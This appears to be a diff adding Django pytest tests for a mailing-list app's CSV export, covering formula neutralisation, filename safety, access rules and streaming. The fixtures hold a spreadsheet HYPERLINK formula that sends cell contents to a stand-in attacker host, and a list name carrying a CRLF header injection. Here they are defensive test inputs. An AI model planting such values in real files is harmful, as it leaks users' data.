@@ -1,0 +1,186 @@
+"""CSV export of lists and segments: content, formula neutralising, streaming, access."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from django.http import StreamingHttpResponse
+from django.urls import reverse
+
+from lists.access import grant
+from lists.models import Subscriber, Subscription
+from mailpanel.lib.csvsafe import neutralise
+from tests.factories import (
+    CustomFieldFactory,
+    MailingListFactory,
+    SegmentFactory,
+    SubscriberFactory,
+    SubscriptionFactory,
+)
+
+EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def read_csv(response) -> list[list[str]]:  # noqa: ANN001
+    assert isinstance(response, StreamingHttpResponse)
+    text = b"".join(response.streaming_content).decode("utf-8")
+    assert text.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(text[1:])))
+
+
+@pytest.fixture
+def news(owner):  # noqa: ANN001, ANN201
+    CustomFieldFactory(account=owner, key="vip", type="boolean", position=2)
+    CustomFieldFactory(account=owner, key="city", type="text", position=1)
+    news = MailingListFactory(owner=owner, name='Ünïcode "news"\r\nX-Evil: 1')
+    ann = SubscriberFactory(
+        account=owner,
+        email="ann@example.org",
+        name=EVIL_NAME,
+        fields={"city": "+1 Berlin", "vip": True},
+    )
+    bob = SubscriberFactory(
+        account=owner, email="bob@example.org", name="Bob", fields={"city": "-Paris"}
+    )
+    SubscriptionFactory(mailing_list=news, subscriber=ann, status="confirmed")
+    SubscriptionFactory(mailing_list=news, subscriber=bob, status="unsubscribed")
+    return news
+
+
+@pytest.mark.parametrize(
+    ("cell", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (None, ""),
+        (42, "42"),
+    ],
+)
+def test_neutralise_prefixes_formula_starts_only(cell: object, expected: str) -> None:
+    assert neutralise(cell) == expected
+
+
+def test_list_export_has_every_column_and_neutralised_cells(owner_client, news) -> None:  # noqa: ANN001
+    response = owner_client.get(reverse("lists:export-list", args=[news.uuid]) + "?sort=email")
+    rows = read_csv(response)
+    header = [
+        "email",
+        "name",
+        "status",
+        "subscribed_at",
+        "confirmed_at",
+        "city",
+        "vip",
+        "created_at",
+    ]
+    assert rows[0] == header
+    ann, bob = rows[1], rows[2]
+    assert ann[:3] == ["ann@example.org", "'" + EVIL_NAME, "confirmed"]
+    assert ann[5:7] == ["'+1 Berlin", "yes"]
+    assert bob[:3] == ["bob@example.org", "Bob", "unsubscribed"]
+    assert bob[5:7] == ["'-Paris", ""]
+    assert ann[3].startswith("20") and ann[7].startswith("20")
+    assert len(rows) == 3
+
+
+def test_list_export_filename_is_safe(owner_client, news) -> None:  # noqa: ANN001
+    response = owner_client.get(reverse("lists:export-list", args=[news.uuid]))
+    disposition = response["Content-Disposition"]
+    assert disposition.startswith('attachment; filename="unicode-news-x-evil-1-')
+    assert disposition.endswith('.csv"')
+    assert "\r" not in disposition and "\n" not in disposition
+    assert response["Content-Type"].startswith("text/csv")
+
+
+def test_list_export_takes_the_list_page_filter(owner_client, news) -> None:  # noqa: ANN001
+    url = reverse("lists:export-list", args=[news.uuid])
+    confirmed = read_csv(owner_client.get(url + "?status=confirmed"))
+    assert [row[0] for row in confirmed[1:]] == ["ann@example.org"]
+    searched = read_csv(owner_client.get(url + "?q=bob"))
+    assert [row[0] for row in searched[1:]] == ["bob@example.org"]
+
+
+@pytest.mark.parametrize(("role", "status"), [("viewer", 200), ("manager", 200), (None, 404)])
+def test_list_export_access(client, owner, delegate, news, role: str | None, status: int) -> None:  # noqa: ANN001
+    if role:
+        grant(news, delegate, role, granted_by=owner)
+    client.force_login(delegate)
+    response = client.get(reverse("lists:export-list", args=[news.uuid]))
+    assert response.status_code == status
+    if status == 200:
+        assert len(read_csv(response)) == 3
+
+
+def test_segment_export_has_the_matching_subscribers(owner_client, owner, news) -> None:  # noqa: ANN001
+    SubscriberFactory(account=owner, email="cat@example.org", name="Cat", fields={"city": "Rome"})
+    segment = SegmentFactory(
+        account=owner,
+        definition={"match": "any", "conditions": [
+            {"type": "field", "field": "city", "op": "contains", "value": "Berlin"},
+            {"type": "email", "op": "contains", "value": "cat"},
+        ]},
+    )  # fmt: skip
+    rows = read_csv(owner_client.get(reverse("lists:segment-export", args=[segment.uuid])))
+    assert rows[0] == [
+        "email",
+        "name",
+        "subscribed_at",
+        "confirmed_at",
+        "city",
+        "vip",
+        "created_at",
+    ]
+    assert [row[0] for row in rows[1:]] == ["ann@example.org", "cat@example.org"]
+    ann, cat = rows[1], rows[2]
+    assert ann[1] == "'" + EVIL_NAME
+    assert ann[2].startswith("20")
+    assert cat[2:4] == ["", ""]  # on no list
+
+
+def test_segment_export_is_the_owners_only(client, owner, delegate, news) -> None:  # noqa: ANN001
+    grant(news, delegate, "manager", granted_by=owner)
+    segment = SegmentFactory(account=owner)
+    url = reverse("lists:segment-export", args=[segment.uuid])
+    client.force_login(owner)
+    assert client.get(url).status_code == 200
+    client.force_login(delegate)
+    assert client.get(url).status_code == 404
+
+
+def test_export_streams_every_row_with_a_constant_number_of_queries(
+    owner_client, owner, django_assert_max_num_queries
+) -> None:  # noqa: ANN001
+    # More rows than one iterator chunk, so the cursor is read in several fetches.
+    CustomFieldFactory(account=owner, key="n", type="number")
+    big = MailingListFactory(owner=owner)
+    total = 4500
+    Subscriber.objects.bulk_create(
+        Subscriber(account=owner, email=f"r{i}@example.org", domain="example.org", fields={"n": i})
+        for i in range(total)
+    )
+    Subscription.objects.bulk_create(
+        Subscription(mailing_list=big, subscriber=s, status="confirmed", source="import")
+        for s in Subscriber.objects.filter(account=owner)
+    )
+    response = owner_client.get(reverse("lists:export-list", args=[big.uuid]))
+    assert isinstance(response, StreamingHttpResponse)
+    with django_assert_max_num_queries(3):
+        chunks = list(response.streaming_content)
+    assert len(chunks) > 1
+    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8")[1:])))
+    assert len(rows) == total + 1
+    assert {row[0] for row in rows[1:]} == {f"r{i}@example.org" for i in range(total)}
+    segment = SegmentFactory(account=owner, definition={"match": "all", "conditions": []})
+    response = owner_client.get(reverse("lists:segment-export", args=[segment.uuid]))
+    # Field keys, the segment's fields and lists (to compile it), then the rows.
+    with django_assert_max_num_queries(4):
+        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode()[1:])))
+    assert len(rows) == total + 1
